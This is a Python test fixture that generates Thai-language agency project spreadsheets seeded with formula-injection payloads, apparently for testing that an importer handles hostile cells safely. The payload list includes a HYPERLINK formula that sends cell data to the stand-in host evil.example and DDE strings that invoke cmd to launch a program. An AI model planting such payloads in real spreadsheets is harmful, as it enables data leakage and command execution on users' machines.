"""Hostile inputs, generated here: the files agencies really send, the mistakes clerks really make."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "=cmd|' /C calc'!A0", "+1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tเว้นแท็บ", "\rขึ้นบรรทัด"]


def agency_sheet(path: Path, rows: list[list[object]], *, header: list[str] | None = None) -> Path:
    """A project sheet as an agency types it: a title row, a blank row, the Thai header, the rows."""
    book = Workbook()
    sheet = book.active
    sheet.append(["บัญชีโครงการ ปีงบประมาณ 2569"])
    sheet.append([])
    sheet.append(header or ["รหัสโครงการ", "ชื่อโครงการ", "หน่วยงาน", "ผู้ประสานงาน", "ด้าน", "ปีงบประมาณ",
                            "งบประมาณ (บาท)", "พื้นที่ดำเนินการ"])
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # typed text, even when it starts with "=": the cell holds no formula
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


@pytest.fixture()
def injected_sheet(tmp_path: Path) -> Path:
    """Every formula payload in a name, an agency and a facilitator."""
    rows = [[f"H-{i}", payload, payload, payload, "แหล่งน้ำ", 2569, 100_000 + i, "ต.ท่างิ้ว อ.เมืองนครศรีธรรมราช"]
            for i, payload in enumerate(PAYLOADS)]
    return agency_sheet(tmp_path / "in" / "hostile.xlsx", rows)
